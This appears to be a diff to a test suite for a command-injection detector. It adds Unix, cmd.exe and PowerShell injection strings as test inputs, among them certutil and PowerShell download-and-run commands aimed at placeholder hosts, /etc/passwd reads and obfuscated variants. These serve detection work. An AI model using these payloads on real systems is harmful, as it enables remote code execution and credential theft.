@@ -22,7 +22,9 @@ describe('cmdi detector', () => {
     assert.equal(scores(';id').get('cmdi.chained-command'), 5);
     assert.equal(scores('127.0.0.1 | cat /etc/passwd').get('cmdi.chained-command'), 5);
     assert.equal(scores("'&& whoami").get('cmdi.chained-command'), 5);
-    assert.equal(scores('a%0aid').get('cmdi.chained-command'), 5);
+    // After a line break inside text: medium at paranoia 1, full weight from paranoia 2.
+    assert.equal(scores('a%0aid').get('cmdi.chained-command.weak'), 3);
+    assert.equal(scores('a%0aid').get('cmdi.documented'), 5);
   });
 
   test('finds substitution, quote-split words and $IFS spacing', () => {
@@ -48,5 +50,54 @@ describe('cmdi detector', () => {
     ]) {
       assert.ok(strongest(benign) < 5, benign);
     }
+  });
+
+  test('finds cmd.exe idioms, carets and PowerShell', () => {
+    assert.equal(scores('& for /f "tokens=*" %i in (\'whoami\') do echo %i').get('cmdi.windows-idiom'), 5);
+    assert.equal(scores('| if %USERNAME% equ admin (dir)').get('cmdi.windows-idiom'), 5);
+    assert.equal(
+      scores('x & certutil -urlcache -split -f http://203.0.113.9/a.exe').get('cmdi.windows-idiom'),
+      5,
+    );
+    assert.equal(strongest('&& w^h^o^a^m^i'), 5);
+    assert.equal(
+      scores('IEX (New-Object Net.WebClient).DownloadString("http://x/a")').get('cmdi.powershell'),
+      5,
+    );
+    assert.equal(scores('x -ep bypass -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A').get('cmdi.powershell'), 5);
+    assert.equal(strongest('; Invoke-Expression $env:X'), 5);
+  });
+
+  test('finds obfuscated Unix commands: globs, braces, escapes, slices, here-strings, empty expansions', () => {
+    assert.equal(scores(';/???/c?t /??c/p??s??').get('cmdi.glob-path'), 5);
+    assert.equal(scores(';{cat,/etc/passwd}').get('cmdi.brace-expansion'), 5);
+    assert.equal(scores(';$(printf "\\x69\\x64")').get('cmdi.encoded-command'), 5);
+    assert.equal(scores('echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh').get('cmdi.encoded-command'), 5);
+    assert.equal(scores(';${PATH:0:1}bin${PATH:0:1}id').get('cmdi.variable-slice'), 5);
+    assert.equal(scores('$(tr "[A-Z]" "[a-z]"<<<"WHOAMI")').get('cmdi.here-string'), 5);
+    assert.equal(strongest(';c${u}at /e${u}tc/pa${u}sswd'), 5);
+  });
+
+  test('leaves Windows paths, prose and templates that look like these alone', () => {
+    for (const value of [
+      'C:\\Program Files\\App\\app.exe',
+      'Look for /foo in the logs',
+      'if the price equals 5 then buy',
+      'Hello ${name}, your order ${id} shipped',
+      'x^2 + y^2 = z^2',
+      'The {red,green,blue} palette',
+      'GET /api/*/items',
+      'Use the IEX exchange rates',
+      'start the process manually',
+    ])
+      assert.equal(strongest(value, 'body', 'body.text'), 0, value);
+  });
+
+  test('finds interpreters given code after a pipe, a sleep probe and %COMSPEC% without shell syntax', () => {
+    assert.equal(strongest("test* | perl -e 'print 1'"), 5);
+    assert.equal(strongest('sleep 5'), 5);
+    assert.equal(strongest('%COMSPEC% /c dir c:\\'), 5);
+    assert.equal(strongest('Sleep 8 hours a night', 'body', 'body.text'), 0);
+    assert.equal(strongest('cat data.csv | perl -pe s/a/b/', 'body', 'body.text') < 5, true);
   });
 });
